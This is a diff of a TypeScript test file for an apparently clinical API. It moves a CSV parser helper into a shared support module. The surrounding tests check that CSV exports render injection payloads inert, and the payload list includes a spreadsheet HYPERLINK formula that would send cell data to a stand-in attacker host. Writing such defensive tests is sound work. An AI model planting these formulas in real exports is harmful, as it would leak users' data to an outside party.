@@ -16,6 +16,7 @@ import { DosingSession } from '../src/sessions/dosing-session.entity';
 import { Observation } from '../src/sessions/observation.entity';
 import { SideEffect } from '../src/sessions/side-effect.entity';
 import { User, UserClinic } from '../src/users/user.entity';
+import { parseCsv } from './support/csv';
 import { bearer, makeWorld, startApi, type TestApi, type World } from './support/api';
 import {
   CLINICAL_TABLES,
@@ -405,35 +406,6 @@ describe('injection payloads are stored and returned inert', () => {
   });
 
   describe('CSV exports', () => {
-    /** Parses RFC 4180 text (quoted fields, doubled quotes, CRLF records) into rows of fields. */
-    function parseCsv(text: string): string[][] {
-      const rows: string[][] = [];
-      let row: string[] = [];
-      let field = '';
-      let quoted = false;
-      for (let i = 0; i < text.length; i++) {
-        const c = text[i];
-        if (quoted) {
-          if (c === '"' && text[i + 1] === '"') {
-            field += '"';
-            i++;
-          } else if (c === '"') quoted = false;
-          else field += c;
-        } else if (c === '"') quoted = true;
-        else if (c === ',') {
-          row.push(field);
-          field = '';
-        } else if (c === '\r' && text[i + 1] === '\n') {
-          row.push(field);
-          rows.push(row);
-          row = [];
-          field = '';
-          i++;
-        } else field += c;
-      }
-      return rows;
-    }
-
     it.each([
       '=HYPERLINK("http://attacker.example/?"&A1,"Click")',
       '+1+1',
